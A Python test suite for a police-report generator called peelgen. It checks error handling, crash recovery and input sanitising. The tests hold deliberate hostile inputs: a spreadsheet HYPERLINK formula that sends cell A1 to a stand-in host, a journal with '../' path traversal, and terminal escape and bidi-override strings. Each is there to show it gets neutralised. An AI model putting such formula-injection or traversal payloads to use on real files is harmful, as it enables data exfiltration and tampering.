"""Environment faults and bad output paths: one located line, exit 1 or 2, nothing left behind.

Tests run as root, which ignores file permissions, so read-only and full file systems
are simulated by making the system calls fail as they would."""

from __future__ import annotations

import errno
import json
import os
import subprocess
import sys
import tempfile
from pathlib import Path

import pytest

from peelgen import output
from peelgen.diagnostics import Diagnostic, printable
from tests.conftest import MINIMAL

ESC_NAME = MINIMAL.replace("publication_date: 2017-03-02", 'publication_date: "2017-\\e[31m02-30"')


def other_force(name: str) -> str:
    return MINIMAL.replace("Testshire Police", f"{name} Police").replace("force_short: Testshire",
                                                                          f"force_short: {name}")


def leftovers(folder: Path) -> list[str]:
    return sorted(p.name for p in folder.iterdir() if ".peelgen-" in p.name)


def dead_pid() -> int:
    """The id of a process that has ended (and so cannot own anything any more)."""
    child = subprocess.run([sys.executable, "-c", "import os; print(os.getpid())"], capture_output=True,
                           text=True, check=True)
    return int(child.stdout)


@pytest.fixture
def built(cli, write, tmp_path: Path) -> Path:
    """A report built once as HTML into site/; returns the page."""
    write(MINIMAL)
    assert cli("build", "report.yaml", "-o", "site", "--format", "html").code == 0
    return tmp_path / "site" / "testshire-2016.html"


# ---------------------------------------------------------------------------------
# Full disk, read-only file system, no permission


def _fail_on_fsync(monkeypatch: pytest.MonkeyPatch, code: int, after: int = 0) -> None:
    real = os.fsync
    calls = {"n": 0}

    def fsync(fd: int) -> None:
        calls["n"] += 1
        if calls["n"] > after:
            raise OSError(code, os.strerror(code))
        real(fd)

    monkeypatch.setattr(output.os, "fsync", fsync)


def test_full_disk_is_one_located_line_and_leaves_no_temp_file(cli, built: Path, monkeypatch):
    before = built.read_bytes()
    (built.parent.parent / "report.yaml").write_text(MINIMAL.replace("The force is good", "Changed"))
    # The first output is staged, then the disk fills up while the second is written.
    _fail_on_fsync(monkeypatch, errno.ENOSPC, after=1)
    result = cli("build", "report.yaml", "-o", "site")
    assert result.code == 1
    assert result.err_lines == [
        "site/testshire-2016.pdf: cannot write the output: No space left on device (the disk is full)",
        "report.yaml: build failed; previous output left as it was"]
    assert built.read_bytes() == before
    assert leftovers(built.parent) == []
    assert sorted(p.name for p in built.parent.iterdir()) == ["testshire-2016.html"]


@pytest.mark.parametrize(("code", "hint"), [(errno.EROFS, "the file system is read-only"),
                                            (errno.EACCES, "check the folder's permissions")])
def test_read_only_or_forbidden_folder_is_one_located_line(cli, built: Path, monkeypatch, code: int, hint: str):
    def refuse(*args, **kwargs):
        raise OSError(code, os.strerror(code))

    monkeypatch.setattr(output.tempfile, "mkstemp", refuse)
    result = cli("build", "report.yaml", "-o", "site", "--format", "html")
    assert result.code == 1
    assert result.err_lines[0] == f"site/testshire-2016.html: cannot write the output: {os.strerror(code)} ({hint})"
    assert "Traceback" not in result.err and "internal error" not in result.err


def test_output_folder_that_cannot_be_made(cli, write, tmp_path: Path):
    write(MINIMAL)
    result = cli("build", "report.yaml", "-o", "/proc/peelgen-test/site", "--format", "html")
    assert result.code == 1
    assert result.err_lines[0].startswith("/proc/peelgen-test/site: cannot write the output: ")


def test_national_into_proc_is_a_located_error(cli, write):
    write(MINIMAL)
    result = cli("national", "report.yaml", "-o", "/proc/grades.csv")
    assert result.code == 1
    [line] = result.err_lines
    assert line.startswith("/proc/grades.csv: cannot write the output: ")


def test_a_folder_where_an_output_goes_is_refused_before_anything_is_written(cli, built: Path):
    (built.parent / "testshire-2016.pdf").mkdir()
    result = cli("build", "report.yaml", "-o", "site")
    assert result.code == 1
    assert result.err_lines[0].startswith("site/testshire-2016.pdf: cannot write the output: something other "
                                          "than a regular file is in the way")
    assert leftovers(built.parent) == []


@pytest.fixture
def tmpfs(tmp_path: Path):
    """Mount a small tmpfs (real ENOSPC and EROFS), where the system allows it."""
    points: list[Path] = []

    def mount(name: str, options: str) -> Path:
        point = tmp_path / name
        point.mkdir()
        done = subprocess.run(["mount", "-t", "tmpfs", "-o", options, "tmpfs", str(point)], capture_output=True,
                              check=False)
        if done.returncode:
            pytest.skip("cannot mount a tmpfs here (needs root and CAP_SYS_ADMIN)")
        points.append(point)
        return point

    yield mount
    for point in points:
        subprocess.run(["umount", str(point)], check=False)


def test_a_real_full_disk(cli, write, tmpfs):
    small = tmpfs("small", "size=16k")
    write(MINIMAL)
    result = cli("build", "report.yaml", "-o", "small/site", "--format", "html")
    assert result.code == 1
    assert result.err_lines[0] == ("small/site/testshire-2016.html: cannot write the output: No space left on "
                                   "device (the disk is full)")
    assert list((small / "site").iterdir()) == []


def test_a_real_read_only_file_system(cli, write, tmpfs):
    disk = tmpfs("disk", "size=1m")
    write(MINIMAL)
    assert cli("build", "report.yaml", "-o", "disk", "--format", "html").code == 0
    before = (disk / "testshire-2016.html").read_bytes()
    subprocess.run(["mount", "-o", "remount,ro", str(disk)], check=True)
    result = cli("build", "report.yaml", "-o", "disk", "--format", "html")
    assert result.code == 1
    assert result.err_lines[0] == ("disk/testshire-2016.html: cannot write the output: Read-only file system "
                                   "(the file system is read-only)")
    assert [p.name for p in disk.iterdir()] == ["testshire-2016.html"]
    assert (disk / "testshire-2016.html").read_bytes() == before


# ---------------------------------------------------------------------------------
# Bad paths on the command line: usage errors (exit 2)


@pytest.mark.parametrize(("args", "message"), [
    (("build", "report.yaml", "-o", "afile"), "Directory 'afile' is a file"),
    (("build", "report.yaml", "-o", "/dev/null"), "-o /dev/null: is not a folder"),
    (("national", "report.yaml", "-o", "adir/"), "-o adir: is a folder; give the name of the CSV file to write"),
    (("national", "report.yaml", "-o", "adir"), "-o adir: is a folder; give the name of the CSV file to write"),
    (("national", "report.yaml", "-o", "/dev/null"), "-o /dev/null: is not a regular file"),
    (("build", "report.yaml", "--templates", "missing"), "'--templates': Directory 'missing' does not exist"),
    (("serve", "report.yaml", "--templates", "missing"), "'--templates': Directory 'missing' does not exist"),
    (("build", "report.yaml", "--templates", "afile"), "'--templates': Directory 'afile' is a file"),
    (("build", "report\0.yaml"), "contains a NUL character"),
    (("build", "report.yaml", "-o", "si\0te"), "contains a NUL character"),
    (("national", "report.yaml", "-o", "grades\0.csv"), "contains a NUL character"),
], ids=["build-o-file", "build-o-dev-null", "national-o-dir-slash", "national-o-dir", "national-o-dev-null",
        "build-missing-templates", "serve-missing-templates", "templates-is-a-file", "nul-report", "nul-output",
        "nul-national"])
def test_bad_paths_are_usage_errors(cli, write, tmp_path: Path, args, message):
    write(MINIMAL)
    (tmp_path / "afile").write_text("x")
    (tmp_path / "adir").mkdir()
    result = cli(*args)
    assert result.code == 2, result.err
    [line] = result.err_lines
    assert line.startswith("peelgen: error: ") and message in line
    assert Path("/dev/null").is_char_device()  # never replaced by a regular file
    assert sorted(p.name for p in tmp_path.iterdir()) == ["adir", "afile", "report.yaml"]


# ---------------------------------------------------------------------------------
# Terminal control characters


def test_control_characters_in_a_report_are_shown_not_obeyed(cli, write):
    write(ESC_NAME)
    result = cli("build", "report.yaml", "-o", "site", "--format", "html")
    assert result.code == 1
    assert "\x1b" not in result.err
    # The loader refuses the character itself, at its place, and never repeats it.
    assert result.err_lines[0].startswith("report.yaml:5:21: meta.publication_date: ")
    assert "control character U+001B" in result.err_lines[0]


def test_control_characters_in_file_names_are_shown_not_obeyed(cli, write, tmp_path: Path):
    write(MINIMAL, "\x1b[31mred.yaml")
    missing = cli("build", "gone\x1b]0;title\x07.yaml")
    assert missing.code == 2
    assert missing.err_lines == ["peelgen: error: gone\\x1b]0;title\\x07.yaml does not exist"]
    built = cli("build", "\x1b[31mred.yaml", "-o", "out\x1b[2J", "--format", "html")
    assert built.code == 0, built.err
    assert built.out == "wrote out\\x1b[2J/testshire-2016.html\n"
    assert (tmp_path / "out\x1b[2J" / "testshire-2016.html").is_file()


@pytest.mark.parametrize(("text", "shown"), [
    ("\x1b[31mred", "\\x1b[31mred"),
    ("bell\x07", "bell\\x07"),
    ("over\rwrite", "over\\x0dwrite"),
    ("c1\x9b31m", "c1\\x9b31m"),
    ("bidi\u202eevil", "bidi\\u202eevil"),
    ("del\x7f", "del\\x7f"),
    ("tab\tand\nnewline stay", "tab\tand\nnewline stay"),
    ("Café – ‘quoted’", "Café – ‘quoted’"),
])
def test_printable(text: str, shown: str):
    assert printable(text) == shown


def test_diagnostic_is_one_line_without_control_characters():
    diagnostic = Diagnostic("r.yaml", "bad name '\x1b[2J\x1b[H'\r\nnext", 3, 4, ("meta", "force"), hint="fix\x07")
    assert diagnostic.format() == "r.yaml:3:4: meta.force: bad name '\\x1b[2J\\x1b[H' next (fix\\x07)"


# ---------------------------------------------------------------------------------
# Recovery after a process was killed


def test_next_build_rolls_a_dead_builds_journal_forward(cli, built: Path, tmp_path: Path):
    site = built.parent
    pid = dead_pid()
    (site / "testshire-2016.pdf").write_bytes(b"old pdf")
    # A build died after renaming the page and before renaming the PDF.
    built.write_bytes(b"new page")
    temp = site / f".testshire-2016.pdf.peelgen-{pid}-abc123.tmp"
    temp.write_bytes(b"new pdf")
    journal = site / f".testshire-2016.html.peelgen-{pid}-def456.commit"
    journal.write_text(json.dumps({"rename": [[f".testshire-2016.html.peelgen-{pid}-zzz.tmp", "testshire-2016.html"],
                                              [temp.name, "testshire-2016.pdf"]]}))
    stale = site / f".testshire-2016.html.peelgen-{pid}-old999.tmp"
    stale.write_bytes(b"abandoned")
    live = site / f".other.html.peelgen-{os.getpid()}-live11.tmp"  # this process is alive: not touched
    live.write_bytes(b"in progress")
    (tmp_path / "other.yaml").write_text(other_force("Otherton"))
    assert cli("build", "other.yaml", "-o", "site", "--format", "html").code == 0
    assert (site / "testshire-2016.pdf").read_bytes() == b"new pdf"
    assert built.read_bytes() == b"new page"
    assert leftovers(site) == [live.name]


def test_a_hostile_journal_renames_nothing_outside_its_rules(tmp_path: Path):
    pid = dead_pid()
    outside = tmp_path / "outside.txt"
    outside.write_text("keep")
    site = tmp_path / "site"
    site.mkdir()
    (site / "victim.txt").write_text("keep")
    journal = site / f".x.peelgen-{pid}-aaa.commit"
    pairs = [["victim.txt", "moved.txt"], [f".x.peelgen-{pid}-b.tmp", "../outside.txt"], "junk", [1, 2]]
    journal.write_text(json.dumps({"rename": pairs}))
    (site / f".x.peelgen-{pid}-b.tmp").write_text("evil")
    output.recover(site)
    assert outside.read_text() == "keep"
    assert sorted(p.name for p in site.iterdir()) == ["victim.txt"]


def test_stale_scratch_folders_are_removed_and_the_build_leaves_none(cli, write, tmp_path: Path, monkeypatch):
    temp = tmp_path / "temp"
    temp.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(temp))
    stale = temp / f"peelgen-{dead_pid()}-abcdef"
    (stale / "weasyprint-xyz").mkdir(parents=True)
    (stale / "weasyprint-xyz" / "font").write_bytes(b"font")
    unrelated = temp / "someone-else"
    unrelated.mkdir()
    write(MINIMAL)
    assert cli("build", "report.yaml", "-o", "site", "--format", "html").code == 0
    assert sorted(p.name for p in temp.iterdir()) == ["someone-else"]


def test_the_build_uses_its_own_temporary_folder(cli, write, monkeypatch):
    seen = []
    real = output.write_atomically

    def spy(*args, **kwargs):
        seen.append((tempfile.gettempdir(), os.environ.get("TMPDIR")))
        return real(*args, **kwargs)

    monkeypatch.setattr("peelgen.build.write_atomically", spy)
    write(MINIMAL)
    assert cli("build", "report.yaml", "-o", "site", "--format", "html").code == 0
    [(during, env)] = seen
    assert Path(during).name.startswith(f"peelgen-{os.getpid()}-") and env == during
    assert not Path(during).exists()


# ---------------------------------------------------------------------------------
# Batches


def test_a_killed_worker_fails_only_its_own_report(cli, write, tmp_path: Path, monkeypatch):
    for name in ("a", "b", "c", "d"):
        write(other_force(name.upper() + "shire"), f"{name}.yaml")
    monkeypatch.setenv("PEELGEN_TEST_KILL_WORKER_ON", "b.yaml")
    result = cli("build", "a.yaml", "b.yaml", "c.yaml", "d.yaml", "-o", "site", "--format", "html", "-j", "2")
    assert result.code == 1
    assert "b.yaml: not built: the process building it was killed by SIGKILL (it may have run out of memory; " \
           "try again with fewer jobs (-j))" in result.err_lines
    assert result.err_lines[-1] == "3 built, 1 failed"
    assert sorted(p.name for p in (tmp_path / "site").iterdir()) == [
        "ashire-2016.html", "cshire-2016.html", "dshire-2016.html"]


def test_largest_reports_are_built_first(write, tmp_path: Path):
    from peelgen.build import BuildOptions
    from peelgen.workers import Pool

    small = write(other_force("Small"), "small.yaml")
    large = write(other_force("Large") + "# padding\n" * 200, "large.yaml")
    middle = write(other_force("Middle") + "# padding\n" * 50, "middle.yaml")
    results = list(Pool(BuildOptions(tmp_path / "site", ("html",)), 1).run([small, middle, large]))
    assert [r.path.name for r in results] == ["large.yaml", "middle.yaml", "small.yaml"]
    assert all(r.ok for r in results)


def test_draft_builds_run_in_parallel(cli, write, tmp_path: Path):
    write(MINIMAL, "a.yaml")
    write(other_force("Otherton"), "b.yaml")
    result = cli("build", "--draft", "a.yaml", "b.yaml", "-o", "site", "--format", "html", "-j", "2")
    assert result.code == 0, result.err
    for name in ("testshire-2016.html", "otherton-2016.html"):
        assert 'class="draft-banner"' in (tmp_path / "site" / name).read_text()


# ---------------------------------------------------------------------------------
# peelgen national: safe to open in a spreadsheet


def test_national_csv_cells_cannot_be_formulas_and_read_back_unchanged(cli, write, tmp_path: Path):
    from peelgen.framework import load_framework
    from peelgen.national import load_force_grades

    hostile = '=HYPERLINK("http://example.invalid/?"&A1,"Alpha") Police'
    write(MINIMAL.replace("Testshire Police", f"'{hostile}'").replace("force_short: Testshire",
                                                                        'force_short: "-Alpha"'), "a.yaml")
    write(MINIMAL.replace("Testshire Police", '"@Beta Police"').replace("force_short: Testshire",
                                                                       "force_short: \"'+Beta\""), "b.yaml")
    result = cli("national", "a.yaml", "b.yaml", "-o", "grades.csv")
    assert result.code == 0, result.err
    text = (tmp_path / "grades.csv").read_text()
    lines = text.splitlines()
    assert '"\'=HYPERLINK(""http://example.invalid/?""&A1,""Alpha"") Police",\'-Alpha,overall,' in text
    assert "'@Beta Police,''+Beta,overall," in text
    # Every cell of every row starts with something a spreadsheet takes as text.
    assert all(not cell.startswith(("=", "+", "-", "@")) for line in lines for cell in line.split(","))
    data, problems = load_force_grades(tmp_path / "grades.csv", load_framework("peel-2017-national"))
    assert problems == [] and data is not None
    assert sorted((f.force, f.short_name) for f in data.forces) == [(hostile, "-Alpha"), ("@Beta Police", "'+Beta")]


@pytest.mark.parametrize(("cell", "written"), [
    ("=1+2", "'=1+2"), ("+SUM(A1)", "'+SUM(A1)"), ("-1+2", "'-1+2"), ("@cmd", "'@cmd"), ("\tx", "'\tx"),
    ("\rx", "'\rx"), ("-", "'-"), ("'=x", "''=x"),
    # Plain numbers are numbers to a spreadsheet, not formulas; ordinary text is untouched.
    ("-3", "-3"), ("+1.5", "+1.5"), ("Avon and Somerset", "Avon and Somerset"), ("'quoted", "'quoted"), ("", ""),
])
def test_spreadsheet_safe_cells_round_trip(cell: str, written: str):
    from peelgen.national import from_spreadsheet_safe, spreadsheet_safe

    assert spreadsheet_safe(cell) == written
    assert from_spreadsheet_safe(written) == cell
